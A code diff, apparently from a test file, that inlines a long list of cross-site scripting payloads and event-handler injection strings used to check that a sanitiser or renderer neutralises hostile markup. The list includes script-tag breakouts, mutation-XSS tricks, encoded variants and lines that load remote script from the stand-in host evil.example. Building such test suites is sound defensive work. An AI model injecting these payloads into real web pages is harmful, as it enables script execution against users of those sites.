@@ -1,23 +1,60 @@
-import { hostileScripts } from './hostileScripts';
+/** Run where a text is taken for script or markup: the trap of the tests hears `alert`. */
+const hostileScripts = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '</script><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '</style><script>alert(1)</script>',
+  '--><script>alert(1)</script>',
+  '"><script>alert(1)</script>',
+  "'><script>alert(1)</script>",
+  '<script\u0000>alert(1)</script>',
+  '<script type="module">import "https://evil.example/x.js"</script>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>go</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
+  '<xss style="animation-name:x" onanimationstart="alert(1)"></xss>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<style>*{display:none}</style>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<form action="javascript:alert(1)"><button>Go on</button></form>',
+  '<button formaction="javascript:alert(1)">Go on</button>',
+  '<input autofocus onfocus=alert(1)>',
+  '<isindex action="javascript:alert(1)" type=image>',
+  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
+  '<a href="javascript:alert(1)">read on</a>',
+  '<plaintext>',
+  '<!--',
+  ']]><![CDATA[<script>alert(1)</script>]]>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+  '"<script>alert(1)</script>"',
+  '"\\u003cimg src=x onerror=alert(1)\\u003e"',
+];
 
-const handlers = [
-  'onerror',
-  'onload',
-  'onclick',
-  'onfocus',
-  'onmouseover',
-  'onpointerenter',
-  'ontoggle',
-  'onanimationend',
-  'ontransitionend',
-  'onwheel',
-  'oninput',
-  'onbeforetoggle',
-].flatMap((name) => [
-  `<img src=x ${name}=alert(1)>`,
-  `" ${name}="alert(1)" x="`,
-  `<details open ${name}=alert(1)>x</details>`,
-]);
+const handlers =
+  'onerror onload onclick onfocus onmouseover onpointerenter ontoggle onanimationend ontransitionend onwheel oninput onbeforetoggle'
+    .split(' ')
+    .flatMap((name) => [
+      `<img src=x ${name}=alert(1)>`,
+      `" ${name}="alert(1)" x="`,
+      `<details open ${name}=alert(1)>x</details>`,
+    ]);
 
 const addresses = [
   'javascript:alert(1)',
